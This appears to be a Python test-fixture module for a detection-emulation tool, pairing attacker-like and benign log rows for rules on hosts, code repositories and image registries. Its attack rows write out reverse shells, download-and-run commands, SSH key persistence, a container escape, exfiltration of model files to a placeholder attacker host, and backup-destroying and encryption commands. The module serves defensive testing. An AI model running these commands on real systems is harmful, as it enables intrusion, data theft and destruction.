"""Steps on hosts, in repositories of code, and at registries of images."""

from typing import Any, Final

from caponier.emulate.attack_steps.attack_step import DESK, THIEF, AttackStep, Row, process

_PACKED: Final = "/tmp/d.tgz"  # noqa: S108 - of the attacker


def _alarm(rule: str, priority: str) -> Row:
    return {
        "rule": rule, "priority": priority, "output": rule, "hostname": "gpu-01.ml.example.org",
        "output_fields": {"proc.cmdline": "x", "container.id": "c", "k8s.ns.name": "ml"},
    }  # fmt: skip


def _github(action: str, address: str = THIEF, **more: Any) -> Row:
    return {
        "@timestamp": None,
        "action": action,
        "actor": "eve",
        "actor_ip": address,
        "org": "o",
        "repo": "ml/serve",
        **more,
    }


def _gitlab(kind: str, address: str = THIEF, **details: str) -> Row:
    told = {"author_name": "eve", "target_details": "ml/serve", "ip_address": address, **details}
    row: Row = {
        "created_at": None, "author_id": 7, "author_name": "eve", "entity_id": 4, "entity_type": "Project",
        "entity_path": "ml/serve", "target_type": "Project", "ip_address": address, "details": told,
    }  # fmt: skip
    return {**row, "event_type": kind} if kind else row


def _pushed(method: str, path: str, address: str = THIEF, status: int = 201) -> Row:
    line = f'{address} - - [<clock>] "{method} /v2/{path} HTTP/1.1" {status} 0 "-" "docker/24"'
    return {"log": line, "stream": "stdout", "kubernetes": {"namespace_name": "ml", "pod_name": "registry-0"}}


STRANGE: Final = AttackStep(
    "strange code on a host",
    (
        (process(f"bash -c bash -i >& /dev/tcp/{THIEF}/443 0>&1"),),
        (process(f"sh -c curl -s http://{THIEF}/x | bash"),),
        (process("./kworker -o stratum+tcp://pool.example.net:3333", "/opt/kworker"),),
        (process("x", "/dev/shm/.cache/.x"),),  # noqa: S108
        (process(f"nc {THIEF} 443 -e /bin/sh", "/usr/bin/nc"),),
        (process(f"powershell -nop -c IEX (New-Object Net.WebClient).DownloadString('http://{THIEF}/a')"),),
        (process(f"bash -c wget -q http://{THIEF}/k -O /srv/k && chmod +x /srv/k && /srv/k"),),
        (process("sh -c echo ssh-ed25519 AAAA x >> /home/ubuntu/.ssh/authorized_keys"),),
        (process(f"pip install --index-url http://{THIEF}/simple torch", "/usr/bin/pip"),),
        (process("docker run -it -v /:/host alpine chroot /host", "/usr/bin/docker"),),
        ({"sourcetype": "linux_secure", "event": f"<iso> gpu-01 CRON[7]: (bob) CMD (curl -s http://{THIEF}/x | sh)"},),
    ),
    (
        (process("bash -c </dev/tcp/db.example.org/5432"),),
        (process("sh -c curl -LsSf https://example.org/install.sh | sh"),),
        (process("python train.py --encode base64"),),
        (process("docker run --gpus all -v /data:/data ml/serve:4", "/usr/bin/docker"),),
        (process("bash -c wget -q https://example.org/k && chmod +x k"),),
        (process("sh -c cat /home/ubuntu/.ssh/authorized_keys"),),
        (process("python /tmp/pip-build-1/setup.py", "/usr/bin/python3"),),
        (process("nc -z db 5432", "/usr/bin/nc"),),
        (process("pip install --index-url http://10.8.0.9/simple torch", "/usr/bin/pip"),),
        (process("powershell Invoke-WebRequest https://example.org/data.zip -OutFile data.zip"),),
        (
            {
                "sourcetype": "linux_secure",
                "event": "<iso> gpu-01 CRON[7]: (root) CMD (cd / && run-parts /etc/cron.hourly)",
            },
        ),
    ),
)

SENT: Final = AttackStep(
    "files sent away from a host",
    (
        (process(f"rclone copy {_PACKED} mega:drop", "/usr/bin/rclone"),),
        (process("rclone.exe --transfers 32 sync D:\\training remote:x", "C:\\Users\\eve\\rclone.exe"),),
        (process(f"curl --upload-file {_PACKED} https://transfer.sh/d.tgz", "/usr/bin/curl"),),
        (process(f"mega-put {_PACKED}", "/usr/bin/mega-put"),),
        (process(f"scp -r /srv/models root@{THIEF}:/tmp", "/usr/bin/scp"),),
        (process(f"bash -c tar czf - /srv/models | nc {THIEF} 9001"),),
        (process(f"curl -T {_PACKED} http://{THIEF}:8000/", "/usr/bin/curl"),),
        (process("huggingface-cli upload drop/d /srv/models --private", "/usr/bin/huggingface-cli"),),
        (process("aws s3 cp --recursive /srv/models s3://drop/ --no-sign-request", "/usr/bin/aws"),),
        (process(f"aws --endpoint-url http://{THIEF}:9000 s3 sync /srv/models s3://d/", "/usr/bin/aws"),),
        (process(f"powershell iwr -Method Put -InFile D:\\models\\d.onnx -Uri http://{THIEF}/u", "powershell.exe"),),
    ),
    (
        (process("rsync -a /srv/models/ ada@10.8.0.22:/srv/models/", "/usr/bin/rsync"),),
        (process(f"scp root@{THIEF}:/tmp/x .", "/usr/bin/scp"),),
        (process("bash -c tar czf - /srv/models | tee /backup/models.tgz"),),
        (process("rclone listremotes", "/usr/bin/rclone"),),
        (process("curl -F file=@m.json https://models.example.org/v2/models/digits/infer", "/usr/bin/curl"),),
        (process("curl -O https://transfer.sh/get/x", "/usr/bin/curl"),),
        (process("curl -F file=@m.json http://10.8.0.22:8080/v2/models/digits/infer", "/usr/bin/curl"),),
        (process(f"curl -O http://{THIEF}/x", "/usr/bin/curl"),),
        (process("huggingface-cli download bert-base-uncased", "/usr/bin/huggingface-cli"),),
        (process("aws s3 cp s3://open-images/train.csv . --no-sign-request", "/usr/bin/aws"),),
        (process("aws --endpoint-url http://10.8.0.9:9000 s3 sync /srv/models s3://d/", "/usr/bin/aws"),),
        (process("aws s3 sync /srv/models s3://models-backup/", "/usr/bin/aws"),),
    ),
)

ALARMED: Final = AttackStep(
    "an alarm of a sensor",
    (
        (_alarm("Terminal shell in container", "Notice"),),
        (_alarm("Detect outbound connections to common miner pool ports", "Critical"),),
        (_alarm("Drop and execute new binary in container", "Critical"),),
        (_alarm("Some rule of our own", "Error"),),
    ),
    (
        (_alarm("Contact K8S API Server From Container", "Notice"),),
        (_alarm("Read sensitive file untrusted", "Warning"),),
        (process("nvidia-smi"),),
    ),
)

OPENED: Final = AttackStep(
    "a repository of code opened",
    (
        (_github("repo.access", visibility="public"),),
        (_github("public_key.create", read_only="false"),),
        (_github("protected_branch.destroy"),),
        (_github("repo.register_self_hosted_runner"),),
    ),
    (
        (_github("repo.access", visibility="private"),),
        (_github("public_key.create", DESK),),
        (_github("git.push"),),
        (_github("pull_request.create"),),
    ),
)

PUSHED: Final = AttackStep(
    "an image pushed to a registry",
    (
        (_pushed("PUT", "ml/serve/manifests/prod"),),
        (_pushed("PUT", "ml/serve/manifests/sha256:00"),),
        (_pushed("POST", "ml/serve/blobs/uploads/", status=202), _pushed("PUT", "ml/serve/manifests/latest")),
    ),
    (
        (_pushed("PUT", "ml/serve/manifests/prod", DESK),),
        (_pushed("PUT", "ml/serve/manifests/prod", status=401),),
        (_pushed("GET", "ml/serve/manifests/prod", status=200),),
    ),
)

UNRECOVERABLE: Final = AttackStep(
    "what could be restored destroyed",
    (
        (process("vssadmin delete shadows /all /quiet", "C:\\Windows\\System32\\vssadmin.exe"),),
        (process("cipher.exe /e /s:D:\\models", "C:\\Windows\\System32\\cipher.exe"),),
        (process("find /srv/models -name *.safetensors -exec openssl enc -aes-256-cbc -in {} ;", "/usr/bin/find"),),
        (process("zfs destroy -r tank/models@nightly", "/usr/sbin/zfs"),),
        (process("wmic shadowcopy where ID='{1}' delete", "C:\\Windows\\System32\\wbem\\wmic.exe"),),
    ),
    (
        (process("vssadmin list shadows", "C:\\Windows\\System32\\vssadmin.exe"),),
        (process("cipher.exe /c D:\\models", "C:\\Windows\\System32\\cipher.exe"),),
        (process("find /srv/models -name *.safetensors -mtime +30", "/usr/bin/find"),),
        (process("zfs snapshot tank/models@nightly", "/usr/sbin/zfs"),),
        (process("openssl x509 -in model.pem -noout", "/usr/bin/openssl"),),
    ),
)

OPENED_GITLAB: Final = AttackStep(
    "a project of GitLab opened",
    (
        (_gitlab("project_visibility_level_updated", change="visibility_level", to="Public"),),
        (_gitlab("", change="visibility", to="Public"),),
        (_gitlab("deploy_key_added", add="deploy_key"),),
        (_gitlab("protected_branch_removed", remove="protected_branch"),),
    ),
    (
        (_gitlab("project_visibility_level_updated", DESK, change="visibility_level", to="Private"),),
        (_gitlab("deploy_key_added", DESK, add="deploy_key"),),
        (_gitlab("repository_git_operation"),),
        (_gitlab("deploy_key_removed", remove="deploy_key"),),
    ),
)

STEPS: Final = {
    "recovery_inhibited": UNRECOVERABLE,
    "code_repository_opened_gitlab": OPENED_GITLAB,
    "host_strange_code": STRANGE,
    "data_sent_away": SENT,
    "sensor_alarm": ALARMED,
    "code_repository_opened": OPENED,
    "registry_image_push": PUSHED,
}
"""By the rule's name."""
